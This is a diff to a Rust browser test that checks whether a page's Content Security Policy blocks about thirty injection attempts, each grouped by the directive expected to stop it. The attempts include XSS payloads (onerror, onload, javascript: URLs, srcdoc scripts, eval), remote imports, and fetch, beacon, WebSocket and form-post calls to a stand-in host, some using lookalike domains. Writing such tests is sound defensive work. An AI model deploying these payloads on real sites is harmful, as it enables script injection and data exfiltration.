@@ -9,82 +9,139 @@ const SMALL: &str = "?source=samples&runs=add_d5_l2_h3_t15K_s100001";
 const RUN: &str = "add_d5_l2_h3_t15K_s372001";
 const IMAGE: &str = "<img src=x onerror=\"window.ran=1\">";
 
+/// By the directive that stops them. Let through, each would leave its mark in `ran`, or a request to another host.
+const ATTEMPTS: [(&str, &[&str]); 10] = [
+    (
+        "script-src-elem",
+        &[
+            "append('script', {textContent: 'ran.push(1)'})",
+            "append('script', {src: 'https://elsewhere.example/x.js'})",
+            "append('script', {src: 'data:text/javascript,ran.push(1)'})",
+            "append('script', {src: URL.createObjectURL(new Blob(['ran.push(1)'], {type: 'text/javascript'}))})",
+            "append('a', {href: 'javascript:ran.push(1)'}).click()",
+            "append('iframe', {src: 'javascript:parent.ran.push(1)'})",
+            // What is written for a frame comes into the window that it has from the start.
+            "append('iframe', {srcdoc: '<script>parent.ran.push(1)</scr' + 'ipt>'})
+                .contentWindow.onsecuritypolicyviolation = onsecuritypolicyviolation",
+            "import('https://elsewhere.example/x.js')",
+            "import('data:text/javascript,ran.push(1)')",
+            "worker('await import(\"https://elsewhere.example/x.js\")')",
+            "worker('await import(\"data:text/javascript,postMessage(1)\")')",
+            "worker('importScripts(\"https://elsewhere.example/x.js\")')",
+        ],
+    ),
+    (
+        "script-src-attr",
+        &[
+            "append('div').innerHTML = '<img src=x onerror=\"ran.push(1)\">'",
+            "append('div').innerHTML = '<svg onload=\"ran.push(1)\">'",
+            "append('button').setAttribute('onclick', 'ran.push(1)') ?? document.body.lastChild.click()",
+        ],
+    ),
+    (
+        "script-src",
+        &[
+            "eval('ran.push(1)')",
+            "new Function('ran.push(1)')()",
+            "setTimeout('ran.push(1)')",
+            "worker('eval(\"postMessage(1)\")')",
+        ],
+    ),
+    (
+        "connect-src",
+        &[
+            "fetch('https://elsewhere.example/x')",
+            "fetch('https://huggingface.co.elsewhere.example/x')",
+            "fetch('https://hf.co.elsewhere.example/x')",
+            "new WebSocket('wss://elsewhere.example/')",
+            "new EventSource('https://elsewhere.example/')",
+            "navigator.sendBeacon('https://elsewhere.example/', 'x')",
+            "worker('await fetch(\"https://elsewhere.example/x\")')",
+            "worker(`new Worker(URL.createObjectURL(new Blob([
+                '(' + listen + ')(); fetch(\"https://elsewhere.example/x\").catch(() => 0)'
+            ]))).onmessage = ({data}) => postMessage(data)`)",
+        ],
+    ),
+    (
+        "frame-src",
+        &["append('iframe', {src: 'https://elsewhere.example/'})"],
+    ),
+    (
+        "object-src",
+        &["append('object', {data: 'https://elsewhere.example/'})"],
+    ),
+    (
+        "img-src",
+        &["append('img', {src: 'https://elsewhere.example/x.png'})"],
+    ),
+    (
+        "style-src-elem",
+        &["append('link', {rel: 'stylesheet', href: 'https://elsewhere.example/x.css'})"],
+    ),
+    (
+        "form-action",
+        &["append('form', {action: 'https://elsewhere.example/', method: 'post'}).submit()"],
+    ),
+    (
+        "base-uri",
+        &["append('base', {href: 'https://elsewhere.example/'}) && fetch('relative')"],
+    ),
+];
+
 #[tokio::test]
 async fn the_policy_stops_what_is_not_the_pages_own() -> Result<()> {
     let hub = Hub::start().await?;
-    // Each would leave its mark in `ran`, or a request to another host.
-    let attempts = [
-        "append('script', {textContent: 'ran.push(1)'})",
-        "append('script', {src: 'https://elsewhere.example/x.js'})",
-        "append('script', {src: 'data:text/javascript,ran.push(1)'})",
-        "append('script', {src: URL.createObjectURL(new Blob(['ran.push(1)'], {type: 'text/javascript'}))})",
-        "append('div').innerHTML = '<img src=x onerror=\"ran.push(1)\"><svg onload=\"ran.push(1)\">'",
-        "append('button').setAttribute('onclick', 'ran.push(1)') ?? document.body.lastChild.click()",
-        "append('a', {href: 'javascript:ran.push(1)'}).click()",
-        "append('iframe', {src: 'javascript:parent.ran.push(1)'})",
-        "append('iframe', {srcdoc: '<script>parent.ran.push(1)</scr' + 'ipt>'})",
-        "append('iframe', {src: 'https://elsewhere.example/'})",
-        "append('object', {data: 'https://elsewhere.example/'})",
-        "append('img', {src: 'https://elsewhere.example/x.png'})",
-        "append('link', {rel: 'stylesheet', href: 'https://elsewhere.example/x.css'})",
-        "append('form', {action: 'https://elsewhere.example/', method: 'post'}).submit()",
-        "append('base', {href: 'https://elsewhere.example/'}) && fetch('relative')",
-        "eval('ran.push(1)')",
-        "new Function('ran.push(1)')()",
-        "setTimeout('ran.push(1)')",
-        "import('https://elsewhere.example/x.js')",
-        "import('data:text/javascript,ran.push(1)')",
-        "fetch('https://elsewhere.example/x')",
-        "fetch('https://huggingface.co.elsewhere.example/x')",
-        "fetch('https://hf.co.elsewhere.example/x')",
-        "new WebSocket('wss://elsewhere.example/')",
-        "new EventSource('https://elsewhere.example/')",
-        "navigator.sendBeacon('https://elsewhere.example/', 'x')",
-        "worker('await fetch(\"https://elsewhere.example/x\")')",
-        "worker('await import(\"https://elsewhere.example/x.js\")')",
-        "worker('await import(\"data:text/javascript,postMessage(1)\")')",
-        "worker('importScripts(\"https://elsewhere.example/x.js\")')",
-        "worker('eval(\"postMessage(1)\")')",
-        "worker('new Worker(URL.createObjectURL(new Blob([`fetch(\"https://elsewhere.example/x\").catch(() => 0)`])))')",
-    ];
     flow("policy", &hub, async |page| {
         page.open(SMALL).await?.wait_painted().await?;
-        for attempt in attempts {
-            let ran: u64 = page
-                .eval(&format!(
-                    "(async () => {{
-                        window.ran = [];
-                        let stopped;
-                        const event = new Promise(then => addEventListener('securitypolicyviolation', then, {{once: true}}));
-                        const append = (name, properties = {{}}) => {{
-                            const element = Object.assign(document.createElement(name), properties);
-                            document.body.append(element);
-                            return element;
-                        }};
-                        // Of the page's own making, as its thread is; it says 1 where it did what it should not, then 0.
-                        const worker = source => new Promise(then => {{
-                            const whole = `(async () => {{ try {{ ${{source}} }} catch {{}} postMessage(0); }})()`;
-                            new Worker(URL.createObjectURL(new Blob([whole]))).onmessage = ({{data}}) => {{
-                                if (data === 1) ran.push(1);
-                                else then();
-                            }};
-                        }});
-                        // Not on behalf of the driver, which the policy does not bind.
-                        await new Promise(then => setTimeout(then));
-                        try {{ await Promise.race([{attempt}, event]); }} catch {{}}
-                        await Promise.race([event, new Promise(then => setTimeout(then, 1000))]);
-                        await new Promise(then => setTimeout(then, 20));
-                        return ran.length;
-                    }})()"
-                ))
-                .await?;
-            assert_eq!(ran, 0, "{attempt}");
-            let strays = hub.strays();
-            ensure!(strays.is_empty(), "{attempt} asks {strays:?}");
+        for (directive, attempts) in ATTEMPTS {
+            for attempt in attempts {
+                let (ran, stopped) = attempted(page, attempt).await?;
+                assert_eq!(ran, 0, "{attempt}");
+                ensure!(
+                    stopped.iter().any(|by| by == directive),
+                    "{attempt} should be stopped by {directive}: {stopped:?}"
+                );
+                let strays = hub.strays();
+                ensure!(strays.is_empty(), "{attempt} asks {strays:?}");
+            }
         }
         page.forgive("Content Security Policy").await?;
         Ok(())
     })
+    .await
+}
+
+/// How often an attempt left its mark, and the directives that stopped it.
+async fn attempted(page: &Page, attempt: &str) -> Result<(u64, Vec<String>)> {
+    page.eval(&format!(
+        "(async () => {{
+            window.ran = [];
+            const stopped = [];
+            let stop;
+            const told = new Promise(then => stop = directive => then(stopped.push(directive)));
+            window.onsecuritypolicyviolation = event => stop(event.effectiveDirective);
+            const append = (name, properties = {{}}) => {{
+                const element = Object.assign(document.createElement(name), properties);
+                document.body.append(element);
+                return element;
+            }};
+            // What is stopped in a thread is told there.
+            const listen = () =>
+                addEventListener('securitypolicyviolation', event => postMessage(event.effectiveDirective));
+            // Of the page's own making, as its thread is; it says 1 where it did what it should not.
+            const worker = source => {{
+                const whole = `const listen = ${{listen}}; listen(); (async () => {{ try {{ ${{source}} }} catch {{}} }})()`;
+                new Worker(URL.createObjectURL(new Blob([whole]))).onmessage = ({{data}}) =>
+                    data === 1 ? ran.push(1) : stop(data);
+            }};
+            // Not on behalf of the driver, which the policy does not bind.
+            await new Promise(then => setTimeout(then));
+            try {{ await ({attempt}); }} catch {{}}
+            await Promise.race([told, new Promise(then => setTimeout(then, 10_000))]);
+            await new Promise(then => setTimeout(then, 20));
+            return [ran.length, stopped];
+        }})()"
+    ))
     .await
 }
 
